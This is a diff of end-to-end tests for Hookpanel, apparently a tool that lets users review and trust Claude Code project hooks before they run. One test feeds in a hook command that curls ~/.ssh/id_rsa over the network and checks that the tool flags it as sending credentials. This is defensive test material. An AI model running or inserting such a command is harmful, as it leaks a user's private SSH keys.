@@ -6,7 +6,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { runCli } from '../helpers/cli.js';
 import { REPO } from '../helpers/env.js';
-import { expect, test } from './fixtures.js';
+import { expect, historyRows, openHistory, test } from './fixtures.js';
 
 test('untrusted project hooks: skipped, reviewed, trusted, run', async ({ page, panel }) => {
   panel.env.write(
@@ -16,8 +16,10 @@ test('untrusted project hooks: skipped, reviewed, trusted, run', async ({ page, 
   await panel.goto(page);
   // The project file is inspected by default (Claude Code runs it); let Hookpanel run it instead.
   const projectFile = page.getByRole('article', { name: /ws\/\.claude\/settings\.json/ });
-  await projectFile.getByRole('combobox', { name: /role of/ }).selectOption('hosted');
-  await expect(projectFile.getByText('inspected', { exact: true })).toHaveCount(0);
+  const role = projectFile.getByRole('combobox', { name: /who runs the hooks of/ });
+  await expect(role).toHaveValue('inspected');
+  await role.selectOption('hosted');
+  await expect(role).toHaveValue('hosted');
   await page.getByRole('tab', { name: /Trust review/ }).click();
   const item = page.getByRole('article', { name: /review .*\.claude\/settings\.json/ });
   await expect(item.getByText('never trusted')).toBeVisible();
@@ -38,7 +40,7 @@ test('untrusted project hooks: skipped, reviewed, trusted, run', async ({ page, 
   ).toContainText(['echo project-hook-ran']);
   await panel.shot(page, 'trust-review');
 
-  await page.getByRole('tab', { name: /History/ }).click();
+  await openHistory(page, 'Rule runs');
   const skipped = page.getByRole('row').filter({ hasText: 'skipped' });
   await expect(skipped).toHaveCount(1);
   await skipped.click();
@@ -51,21 +53,18 @@ test('untrusted project hooks: skipped, reviewed, trusted, run', async ({ page, 
   await expect(page.getByRole('status').filter({ hasText: /^Trusted / })).toBeVisible();
   await expect(page.getByText('Nothing to review')).toBeVisible();
 
-  await page.getByRole('tab', { name: /History/ }).click();
-  await expect(page.getByRole('row')).toHaveCount(2);
+  await openHistory(page, 'Rule runs');
+  // Hookpanel's own Stop hook ran; the project's was skipped.
+  await expect(historyRows(page)).toHaveCount(2);
   await panel.emit('claude', 'Stop', {});
-  await expect(page.getByRole('row')).toHaveCount(4);
-  // Hookpanel's own hooks/claude.json names its Stop hook the same, and the two finish in either order:
-  // the project's is the one that printed its line.
-  const ran = page.getByRole('row').filter({ hasText: 'ok' }).filter({ hasText: 'Stop[0].hooks[0]' });
-  const stdout = page.getByLabel('dispatch detail').getByLabel('stdout');
-  await expect(async () => {
-    for (const row of await ran.all()) {
-      await row.click();
-      if ((await stdout.textContent())?.includes('project-hook-ran')) return;
-    }
-    throw new Error('no Stop dispatch printed project-hook-ran');
-  }).toPass();
+  await expect(historyRows(page)).toHaveCount(4);
+  // Hookpanel's own Stop hook has the same position; the project's is told apart by its command.
+  const ran = historyRows(page)
+    .filter({ hasText: 'echo project-hook-ran' })
+    .filter({ has: page.getByRole('cell', { name: 'ok', exact: true }) });
+  await expect(ran).toHaveCount(1);
+  await ran.click();
+  await expect(page.getByLabel('dispatch detail').getByLabel('stdout')).toHaveText('project-hook-ran\n');
 
   // Revoking from the same view makes it inert again.
   await page.getByRole('tab', { name: /Trust review/ }).click();
@@ -178,7 +177,8 @@ test('a trusted file reformatted with one curl of ~/.ssh/id_rsa added: the new c
     });
   await expect(changed).toHaveCount(1);
   const card = changed.first();
-  await expect(card).toHaveAccessibleName('added command Stop[1].hooks[0]');
+  // Named by what it runs, not by its place in the file.
+  await expect(card).toHaveAccessibleName(/^added command curl -s -d @~\/\.ssh\/id_rsa/);
   await expect(card.locator('code.chip')).toHaveText(CURL);
   await expect(card.getByRole('list', { name: 'risks' })).toContainText('Sends credentials over the network');
   await expect(card.getByRole('list', { name: 'risks' })).toContainText(
